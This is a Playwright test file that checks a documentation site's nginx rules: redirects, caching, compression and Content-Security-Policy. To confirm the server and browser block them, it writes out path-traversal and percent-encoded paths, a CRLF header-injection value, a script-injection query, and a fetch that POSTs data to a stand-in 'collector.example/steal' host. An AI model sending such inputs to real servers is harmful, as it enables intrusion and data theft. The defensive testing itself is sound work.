// The hosting rules as a reader's browser meets them: every browser test runs against nginx with the
// generated configuration (npm run preview); these tests check what only the server decides.
import {existsSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import {brotliDecompressSync, gunzipSync} from 'node:zlib';
import {readSite} from '../../../core/site/manifest';
import {COMPRESSIBLE, MIN_COMPRESSIBLE_BYTES} from '../../../core/site/precompress';
import {
  test,
  expect,
  open,
  BUILD_DIR,
  escapeRegExp,
  IOS_OLDEST,
  saveForOffline,
  switchColorMode,
  watchCspViolations,
} from '../../../../tests/e2e/helpers';
import routesFixture from '../../../../tests/fixtures/routes.json';

type Rules = {
  headers: Record<string, string>;
  markdown: {route: string; file: string}[];
};
/** What the build generated for the host (deploy/rules.json, written by step.ts). */
const rules = JSON.parse(readFileSync('deploy/rules.json', 'utf8')) as Rules;

const noRedirect = {maxRedirects: 0} as const;

test.describe('redirects on the server', () => {
  // The section roots of the spec (tests/fixtures/routes.json), each with and without a trailing slash.
  for (const [from, to] of Object.entries(routesFixture.sectionRoots)) {
    for (const path of [from, `${from}/`].filter((candidate) => candidate !== to)) {
      test(`${path} → ${to} (301)`, async ({request}) => {
        const response = await request.get(path, noRedirect);
        expect(response.status()).toBe(301);
        expect(response.headers()['location']).toBe(to);
      });
    }
  }

  test('a trailing .html or /index.html is stripped permanently, the query kept', async ({request}) => {
    for (const [path, to] of [
      ['/docs/faq.html', '/docs/faq'],
      ['/docs/faq/index.html', '/docs/faq'],
      ['/ios/2.2/introduction.html?x=1', '/ios/2.2/introduction?x=1'],
      ['/index.html', '/'],
    ]) {
      const response = await request.get(path, noRedirect);
      expect(response.status(), path).toBe(301);
      expect(response.headers()['location'], path).toBe(to);
    }
  });

  test('one canonical trailing-slash form: a page with a trailing slash redirects to it', async ({request}) => {
    const response = await request.get('/docs/faq/', noRedirect);
    expect(response.status()).toBe(301);
    expect(response.headers()['location']).toBe('/docs/faq');
  });

  test('a section root opens its introduction in the browser with no client redirect page', async ({page}) => {
    const response = await open(page, '/ios/2.2');
    expect(response?.request().redirectedFrom()?.url()).toMatch(/\/ios\/2\.2$/);
    expect(new URL(page.url()).pathname).toBe('/ios/2.2/introduction');
  });
});

test.describe('not found', () => {
  test('an unknown path is a 404 with the branded not-found page', async ({page, request}) => {
    const response = await request.get('/docs/no-such-page');
    expect(response.status()).toBe(404);
    expect(response.headers()['content-type']).toContain('text/html');
    await open(page, '/docs/no-such-page');
    await expect(page.getByRole('heading', {level: 1})).toContainText(/not found/i);
    await expect(page.locator('nav.navbar')).toBeVisible();
  });
});

/** A response read off a raw socket: the status, the headers (lower-case names, repeated ones joined) and the body. */
type RawResponse = {status: number; headers: Record<string, string>; body: Buffer};

/**
 * Sends a request exactly as written, over a raw socket: Playwright's request API and fetch
 * normalise paths (`..`, `%2e`), refuse odd methods and set their own Accept-Encoding. One request
 * per connection (`Connection: close`); HEAD has no body to wait for.
 */
async function raw(method: string, target: string, headers: Record<string, string> = {}): Promise<RawResponse> {
  const {hostname, port} = new URL(test.info().project.use.baseURL!);
  const lines = [`${method} ${target} HTTP/1.1`, `Host: ${hostname}:${port}`, 'Connection: close'];
  for (const [name, value] of Object.entries(headers)) lines.push(`${name}: ${value}`);
  const data = await new Promise<Buffer>((resolve, reject) => {
    const chunks: Buffer[] = [];
    const socket = net.connect(Number(port), hostname, () => socket.end(`${lines.join('\r\n')}\r\n\r\n`));
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('end', () => resolve(Buffer.concat(chunks)));
    socket.on('error', reject);
  });
  const split = data.indexOf('\r\n\r\n');
  const [statusLine, ...headerLines] = data.subarray(0, split).toString('latin1').split('\r\n');
  const parsed: Record<string, string> = {};
  for (const line of headerLines) {
    const name = line.slice(0, line.indexOf(':')).trim().toLowerCase();
    const value = line.slice(line.indexOf(':') + 1).trim();
    parsed[name] = parsed[name] ? `${parsed[name]}, ${value}` : value;
  }
  return {status: Number(statusLine!.split(' ')[1]), headers: parsed, body: data.subarray(split + 4)};
}

/** The branded not-found page (src/pages/404 as Docusaurus builds it), not nginx's bare one. */
const NOT_FOUND_PAGE = readFileSync(path.join(BUILD_DIR, '404.html'));
const FAQ_HTML = readFileSync(path.join(BUILD_DIR, 'docs/faq/index.html'));

test.describe('bad requests: a correct status, never a 500, never a file from outside the build', () => {
  // Every response of this block, to check at the end of each test that none was a server error and
  // all carried the security headers.
  let seen: {what: string; response: RawResponse}[] = [];
  const send = async (method: string, target: string, headers: Record<string, string> = {}) => {
    const response = await raw(method, target, headers);
    seen.push({what: `${method} ${target.slice(0, 80)} ${JSON.stringify(headers).slice(0, 80)}`, response});
    return response;
  };
  test.beforeEach(() => {
    seen = [];
  });
  test.afterEach(() => {
    for (const {what, response} of seen) {
      expect(response.status, what).toBeLessThan(500);
      expect(response.headers['x-content-type-options'], what).toBe('nosniff');
      expect(response.headers['content-security-policy'], what).toBe(rules.headers['Content-Security-Policy']);
    }
  });

  test('paths that climb out of the build or hide path syntax in percent-encoding', async () => {
    // A secret beside the build folder (where deploy/ and the sources are): no request reaches it.
    const name = `hosting-secret-${process.pid}.txt`;
    const secret = path.join(path.resolve(BUILD_DIR), '..', name);
    writeFileSync(secret, 'TOP-SECRET-BESIDE-THE-BUILD\n');
    try {
      for (const target of [
        `/../${name}`,
        `/%2e%2e/${name}`,
        `/%2E%2E/${name}`,
        `/..%2f${name}`,
        `/%2e%2e%2f${name}`,
        `/docs/%2e%2e/%2e%2e/%2e%2e/${name}`,
        `/docs/faq/../../../${name}`,
        `/assets../${name}`,
        `/assets/..%2f..%2f${name}`,
        `/%2e%2e%5c${name}`,
        `/..%5c${name}`,
        `/%2e%2e/deploy/rules.json`,
        `/..%2fdeploy/rules.json`,
        `//..//${name}`,
      ]) {
        const response = await send('GET', target);
        expect([400, 404], target).toContain(response.status);
        expect(response.body.toString('latin1'), target).not.toMatch(/TOP-SECRET|"redirects"/);
      }
    } finally {
      rmSync(secret);
    }
    // An encoded slash, backslash or dot never serves a page at a second URL: not found, with the
    // site's not-found page (rules.ts, ENCODED_PATH_SYNTAX).
    for (const target of [
      '/docs%2ffaq',
      '/docs%2Ffaq',
      '/docs/%2e/faq',
      '/docs/faq%2f',
      '/docs%5cfaq',
      '/docs%2Ffaq.md',
    ]) {
      const response = await send('GET', target, {Accept: 'text/markdown'});
      expect(response.status, target).toBe(404);
      expect(response.body.equals(NOT_FOUND_PAGE), `${target}: the site's not-found page`).toBe(true);
    }
    // A null byte anywhere in the path is a bad request.
    for (const target of ['/docs/faq%00', '/docs/faq%00.md', '/%00', '/docs/%00/../faq']) {
      expect((await send('GET', target)).status, target).toBe(400);
    }
  });

  test('very long paths and query strings of every shape', async () => {
    const long = await send('GET', `/docs/${'a'.repeat(3000)}`);
    expect(long.status).toBe(404);
    expect(long.body.equals(NOT_FOUND_PAGE)).toBe(true);
    expect((await send('GET', `/${'a/'.repeat(2000)}`)).status).toBe(404);
    // Past nginx's 8 KB request line: 414, not an error.
    expect((await send('GET', `/docs/${'a'.repeat(9000)}`)).status).toBe(414);
    // The query never changes what a page is: the same bytes, whatever it holds.
    for (const query of [
      `x=${'y'.repeat(7000)}`,
      'a=1&a=2&a=3',
      'a=b&'.repeat(1500),
      '%00%ff%zz=<script>alert(1)</script>',
      '',
      '?&&==',
      '%0d%0aSet-Cookie:%20x=1',
    ]) {
      const response = await send('GET', `/docs/faq?${query}`);
      expect(response.status, query).toBe(200);
      expect(response.body.equals(FAQ_HTML), query).toBe(true);
    }
    // A redirect keeps the query as it came, encoded: no header can be injected through it.
    const redirect = await send('GET', '/docs/faq.html?%0d%0aSet-Cookie:%20x=1');
    expect(redirect.status).toBe(301);
    expect(redirect.headers['location']).toBe('/docs/faq?%0d%0aSet-Cookie:%20x=1');
    expect(redirect.headers['set-cookie']).toBeUndefined();
  });

  test('methods other than GET and HEAD are 405 with Allow, on every path', async () => {
    const script = `/${readSite(BUILD_DIR).files.find((file) => /^assets\/js\/main\.[0-9a-f]+\.js$/.test(file))}`;
    for (const target of ['/docs/faq', '/', script, '/docs/no-such-page', '/docs/faq.md']) {
      for (const method of ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND']) {
        const response = await send(method, target, {'Content-Length': '0', 'X-Echo': 'trace-me'});
        expect(response.status, `${method} ${target}`).toBe(405);
        expect(response.headers['allow'], `${method} ${target}`).toBe('GET, HEAD');
        expect(response.body.toString('latin1'), 'TRACE echoes nothing').not.toContain('trace-me');
      }
    }
    const head = await send('HEAD', '/docs/faq');
    expect(head.status).toBe(200);
    expect(head.headers['allow']).toBeUndefined();
    expect(head.body.length).toBe(0);
  });

  test('absurd Accept and Accept-Encoding headers get the page, never a wrong variant', async () => {
    const markdown = readFileSync(path.join(BUILD_DIR, 'docs/faq.md'));
    for (const [accept, expected] of [
      ['x'.repeat(5000), FAQ_HTML],
      ['*/*;q=abc, text/markdown;q=0', FAQ_HTML],
      ['text/markdown;q=0, text/html', FAQ_HTML],
      ['text/markdown; charset=utf-8; q=0.000', FAQ_HTML],
      [';;;,,,/,*/*;q=', FAQ_HTML],
      ['text/markdown;q=0.5', markdown],
      ['TEXT/MARKDOWN', markdown],
    ] as const) {
      const response = await send('GET', '/docs/faq', {Accept: accept});
      expect(response.status, accept).toBe(200);
      expect(response.body.equals(expected), `Accept: ${accept.slice(0, 40)}`).toBe(true);
    }
    for (const encoding of [
      'x'.repeat(5000),
      'br;q=0, gzip;q=0, identity;q=0',
      'gzip;q=0',
      '*',
      'compress',
      ',,;q=;',
    ]) {
      const response = await send('GET', '/docs/faq', {'Accept-Encoding': encoding});
      expect(response.status, encoding).toBe(200);
      expect(response.headers['content-encoding'], encoding).toBeUndefined();
      expect(response.body.equals(FAQ_HTML), encoding).toBe(true);
    }
  });

  test('Range requests: a valid range is 206, an unsatisfiable one 416, many ranges never amplify', async () => {
    const valid = await send('GET', '/docs/faq', {Range: 'bytes=0-99'});
    expect(valid.status).toBe(206);
    expect(valid.headers['content-range']).toBe(`bytes 0-99/${FAQ_HTML.length}`);
    expect(valid.body.equals(FAQ_HTML.subarray(0, 100))).toBe(true);
    const suffix = await send('GET', '/docs/faq', {Range: 'bytes=-10'});
    expect(suffix.status).toBe(206);
    expect(suffix.body.equals(FAQ_HTML.subarray(-10))).toBe(true);
    const beyond = await send('GET', '/docs/faq', {Range: 'bytes=99999999-'});
    expect(beyond.status).toBe(416);
    expect(beyond.headers['content-range']).toBe(`bytes */${FAQ_HTML.length}`);
    for (const range of ['bytes=abc', 'bytes=5-1', 'pages=1-2', 'bytes=--1']) {
      const response = await send('GET', '/docs/faq', {Range: range});
      // Ignoring a range it cannot parse (200, the page) and refusing it (416) are both correct.
      expect([200, 416], range).toContain(response.status);
      if (response.status === 200) expect(response.body.equals(FAQ_HTML), range).toBe(true);
    }
    const two = await send('GET', '/docs/faq', {Range: 'bytes=0-1,5-6'});
    expect(two.status).toBe(206);
    expect(two.headers['content-type']).toMatch(/^multipart\/byteranges; boundary=/);
    // Overlapping ranges that add up to more than the file: the file once, not 50 times.
    const many = await send('GET', '/docs/faq', {Range: `bytes=${Array(50).fill('0-').join(',')}`});
    expect(many.status).toBe(200);
    expect(many.body.length).toBe(FAQ_HTML.length);
  });

  test("Markdown negotiation never serves one variant's content for the other (Vary, ETag)", async () => {
    const markdown = await send('GET', '/docs/faq', {Accept: 'text/markdown'});
    const html = await send('GET', '/docs/faq', {Accept: 'text/html'});
    expect(markdown.headers['content-type']).toContain('text/markdown');
    expect(html.body.equals(FAQ_HTML)).toBe(true);
    // A shared cache keys both on Accept and Accept-Encoding, and their validators differ.
    for (const response of [markdown, html]) {
      const vary = response.headers['vary']!.split(/\s*,\s*/);
      expect(vary).toEqual(expect.arrayContaining(['Accept', 'Accept-Encoding']));
    }
    expect(markdown.headers['etag']).not.toBe(html.headers['etag']);
    // A cache revalidating its Markdown copy for an HTML reader gets the HTML, not a 304.
    const revalidated = await send('GET', '/docs/faq', {
      Accept: 'text/html',
      'If-None-Match': markdown.headers['etag']!,
    });
    expect(revalidated.status).toBe(200);
    expect(revalidated.body.equals(FAQ_HTML)).toBe(true);
    // Compressed variants too.
    const brotliMarkdown = await send('GET', '/docs/faq', {Accept: 'text/markdown', 'Accept-Encoding': 'br'});
    expect(brotliMarkdown.headers['content-encoding']).toBe('br');
    expect(brotliDecompressSync(brotliMarkdown.body).equals(readFileSync(path.join(BUILD_DIR, 'docs/faq.md')))).toBe(
      true,
    );
    expect(brotliMarkdown.headers['vary']).toMatch(/Accept-Encoding.*Accept|Accept.*Accept-Encoding/);
  });
});

test.describe('caching', () => {
  test('hashed assets are immutable for a year; HTML and unhashed files revalidate', async ({page, request}) => {
    const assets: string[] = [];
    page.on('response', (response) => {
      if (new URL(response.url()).pathname.startsWith('/assets/')) assets.push(response.url());
    });
    const html = await open(page, '/docs/faq');
    expect(html?.headers()['cache-control']).toBe('no-cache');
    expect(html?.headers()['etag'] ?? html?.headers()['last-modified']).toBeTruthy();
    expect(assets.length).toBeGreaterThan(0);
    for (const asset of assets.slice(0, 5)) {
      const response = await request.get(asset);
      expect(response.headers()['cache-control'], asset).toBe('public, max-age=31536000, immutable');
    }
    // The service worker script and the offline manifests too: a reader never keeps an old worker
    // or an old list of what to save.
    for (const path of [
      '/llms.txt',
      '/docs/faq.md',
      '/sitemap.xml',
      '/api/openapi.yaml',
      '/sw.js',
      '/offline/index.json',
    ]) {
      const response = await request.get(path);
      expect(response.status(), path).toBe(200);
      expect(response.headers()['cache-control'], path).toBe('no-cache');
    }
  });

  test('a page revalidates to 304 with its ETag', async ({request}) => {
    const first = await request.get('/docs/faq');
    const etag = first.headers()['etag'];
    expect(etag).toBeTruthy();
    const again = await request.get('/docs/faq', {headers: {'If-None-Match': etag}});
    expect(again.status()).toBe(304);
  });
});

test.describe("Pagefind's search bundles (the search feature)", () => {
  test('hashed chunks are immutable, named files revalidate; chunks and WebAssembly go as Pagefind wrote them', async ({
    playwright,
  }) => {
    const site = readSite(BUILD_DIR);
    const context = await playwright.request.newContext({
      baseURL: test.info().project.use.baseURL,
      extraHTTPHeaders: {'Accept-Encoding': 'br, gzip'},
    });
    const first = (pattern: RegExp) => `/${site.files.find((file) => pattern.test(file))}`;
    for (const bundle of ['/pagefind/', `/ios/${IOS_OLDEST}/pagefind/`]) {
      const inBundle = (name: string) => new RegExp(`^${escapeRegExp(bundle.slice(1))}${name}$`);
      // Pagefind's own gzip data, which its script inflates: no Content-Encoding, never compressed again.
      for (const [path, cache] of [
        [first(inBundle('index/[^/]+\\.pf_index')), 'public, max-age=31536000, immutable'],
        [first(inBundle('fragment/[^/]+\\.pf_fragment')), 'public, max-age=31536000, immutable'],
        [`${bundle}wasm.en.pagefind`, 'no-cache'],
        [first(inBundle('pagefind\\.[^/]+\\.pf_meta')), 'no-cache'],
      ] as const) {
        const response = await context.fetch(path);
        expect(response.status(), path).toBe(200);
        expect(response.headers()['content-type'], path).toBe('application/octet-stream');
        expect(response.headers()['content-encoding'], path).toBeUndefined();
        expect(response.headers()['cache-control'], path).toBe(cache);
        expect((await response.body()).subarray(0, 2), `${path} is gzip data`).toEqual(Buffer.from([0x1f, 0x8b]));
      }
      // Its script, entry and the site's table of pages: text, precompressed, revalidated.
      for (const [name, type] of [
        ['pagefind.js', 'application/javascript'],
        ['pagefind-entry.json', 'application/json'],
        ['skypath-pages.json', 'application/json'],
      ] as const) {
        const response = await context.fetch(`${bundle}${name}`);
        expect(response.status(), name).toBe(200);
        expect(response.headers()['content-type'], name).toContain(type);
        expect(response.headers()['cache-control'], name).toBe('no-cache');
        if (name !== 'pagefind-entry.json') expect(response.headers()['content-encoding'], name).toBe('br');
      }
    }
    await context.dispose();
  });
});

test.describe('precompression', () => {
  for (const [accept, encoding] of [
    ['br, gzip', 'br'],
    ['gzip', 'gzip'],
    ['identity', undefined],
  ] as const) {
    test(`Accept-Encoding: ${accept} gets ${encoding ?? 'the file as it is'}`, async ({playwright}) => {
      // A request context that does not decode, so the encoding sent is the one seen.
      const context = await playwright.request.newContext({
        baseURL: test.info().project.use.baseURL,
        extraHTTPHeaders: {'Accept-Encoding': accept},
      });
      for (const path of ['/docs/faq', '/llms.txt']) {
        const response = await context.fetch(path);
        expect(response.status(), path).toBe(200);
        expect(response.headers()['content-encoding'], path).toBe(encoding);
        expect(response.headers()['vary'], path).toContain('Accept-Encoding');
      }
      await context.dispose();
    });
  }
});

test.describe('Markdown for agents', () => {
  test('Accept: text/markdown gets the page as Markdown; the page varies by Accept', async ({request}) => {
    const {route} = rules.markdown.find(({route}) => route === '/docs/faq') ?? rules.markdown[0];
    const markdown = await request.get(route, {headers: {Accept: 'text/markdown'}});
    expect(markdown.status()).toBe(200);
    expect(markdown.headers()['content-type']).toContain('text/markdown');
    expect(await markdown.text()).toMatch(/^# /m);
    const html = await request.get(route);
    expect(html.headers()['content-type']).toContain('text/html');
    expect(html.headers()['vary']).toContain('Accept');
  });
});

test.describe('Content-Security-Policy', () => {
  test('every response carries the security headers, errors included', async ({request}) => {
    for (const path of ['/', '/docs/faq', '/docs/no-such-page', '/assets/css/missing.css']) {
      const headers = (await request.get(path, noRedirect)).headers();
      for (const [name, value] of Object.entries(rules.headers)) expect(headers[name.toLowerCase()], path).toBe(value);
      expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    }
  });
});

test.describe('Content-Security-Policy in the browser', () => {
  // Every other browser test fails on any policy violation (tests/e2e/helpers.ts); the explorer's
  // request to the API host the reader chose is api-reference.spec.ts. Here the policy must stop things.
  test.use({allowedCspViolations: /collector\.example|inline script/});

  test('a script cannot send data to another host or run injected inline code', async ({page}) => {
    await open(page, '/api/reference/get-corridor-data-geo-fencing');
    const violations = page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const seen: string[] = [];
          document.addEventListener('securitypolicyviolation', (event) => {
            seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
            if (seen.length === 2) resolve(seen);
          });
        }),
    );
    const sent = await page.evaluate(() =>
      fetch('https://collector.example/steal', {method: 'POST', body: 'key'}).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(sent).toBe('blocked');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true;';
      document.body.append(script);
    });
    expect(await page.evaluate(() => (window as unknown as {injected?: boolean}).injected)).toBeUndefined();
    expect(await violations).toEqual(['connect-src https://collector.example/steal', 'script-src-elem inline']);
  });
});

test.describe('no Content-Security-Policy violation while a reader uses the site', () => {
  // The helpers' check reads the console, where a violation that a script catches (an EvalError from
  // `new Function`, as react-live's editor raised) never shows: here every securitypolicyviolation
  // event the document sees is counted.
  const CORRIDOR = '/api/reference/get-corridor-data-geo-fencing';
  for (const theme of ['light', 'dark'] as const) {
    test(`the API explorer opened and used, search typed, the theme switched, a section saved and read offline, starting ${theme}`, async ({
      page,
    }) => {
      test.setTimeout(120_000);
      const violations = await watchCspViolations(page);
      const sent: unknown[] = [];
      await page.route(/^https:\/\/[^/]*skypath\.io\//, async (route) => {
        sent.push(route.request().postDataJSON());
        await route.fulfill({
          status: 200,
          contentType: 'application/json',
          headers: {'access-control-allow-origin': '*', 'access-control-allow-headers': '*'},
          body: JSON.stringify({data: {hexagons: []}, meta: {}}),
        });
      });
      await open(page, CORRIDOR);
      await switchColorMode(page, theme);

      // The explorer: opened, the key typed, the request body edited by keyboard, the request sent.
      await page.getByRole('button', {name: 'Show code samples and try it'}).click();
      await page.getByPlaceholder('apiKey').fill('test-key');
      const editor = page.getByRole('textbox', {name: /^Request body/});
      await expect(editor).toBeVisible();
      const body = {
        corridor: {
          type: 'Polygon',
          coordinates: [
            [
              [1, 2],
              [3, 4],
              [1, 2],
            ],
          ],
        },
        edited: theme,
      };
      await editor.fill(JSON.stringify(body, null, 2));
      await page.getByRole('button', {name: 'Send API Request'}).click();
      await expect.poll(() => sent.filter(Boolean)).toEqual([body]);
      await expect(
        page.locator('.openapi-explorer__response-container, .openapi-tabs__response-container').first(),
      ).toContainText('200');

      // Search typed in the navbar, its results shown.
      await page.keyboard.press('Control+k');
      await page.keyboard.type('turbulence');
      await expect(page.getByRole('listbox').getByRole('option').first()).toBeVisible();
      await page.keyboard.press('Escape');

      // The theme switched both ways with the navbar's button (no wait for the colours' fade: only the
      // policy matters here).
      for (const mode of [theme === 'light' ? 'dark' : 'light', theme]) {
        await page.getByRole('button', {name: /Switch between dark and light mode/}).click();
        await expect(page.locator('html')).toHaveAttribute('data-theme', mode);
      }
      expect(await violations()).toEqual([]);

      // Intro saved for offline from the page actions' menu, then one of its pages read offline.
      await open(page, '/docs/faq');
      await saveForOffline(page, 'Intro');
      expect(await violations()).toEqual([]);
      await expect.poll(() => page.evaluate(() => Boolean(navigator.serviceWorker.controller))).toBe(true);
      await page.context().setOffline(true);
      await open(page, '/docs/terminology');
      await expect(page.locator('html')).toHaveAttribute('data-theme', theme);
      expect(await violations()).toEqual([]);
    });
  }
});

test.describe('the build as the pipeline leaves it', () => {
  // Precompression is the pipeline's last step; what any plugin or step wrote after it (a sitemap,
  // a feed, a search bundle, a card page) would be served stale or uncompressed.
  test('every text file has .br and .gz copies of what it holds now', async () => {
    const site = readSite(BUILD_DIR);
    const stale: string[] = [];
    let checked = 0;
    for (const file of site.files.filter((name) => COMPRESSIBLE.test(name))) {
      const body = await site.read(file);
      if (body.length < MIN_COMPRESSIBLE_BYTES) continue;
      checked++;
      for (const [ext, decode] of [
        ['.br', brotliDecompressSync],
        ['.gz', gunzipSync],
      ] as const) {
        const copy = await site.read(file + ext).catch(() => undefined);
        if (copy === undefined) continue; // not written when it would not be smaller
        if (!decode(copy).equals(body)) stale.push(file + ext);
      }
      if (!existsSync(path.join(BUILD_DIR, `${file}.br`))) stale.push(`${file}.br (missing)`);
    }
    expect(checked).toBeGreaterThan(300);
    expect(stale).toEqual([]);
    for (const file of ['sitemap.xml', 'blog/rss.xml', 'pagefind/pagefind.js', 'llms.txt', 'site.json']) {
      expect(site.files.includes(file) || file === 'site.json', file).toBe(true);
      expect(existsSync(path.join(BUILD_DIR, `${file}.br`)), `${file}.br`).toBe(true);
    }
  });
});
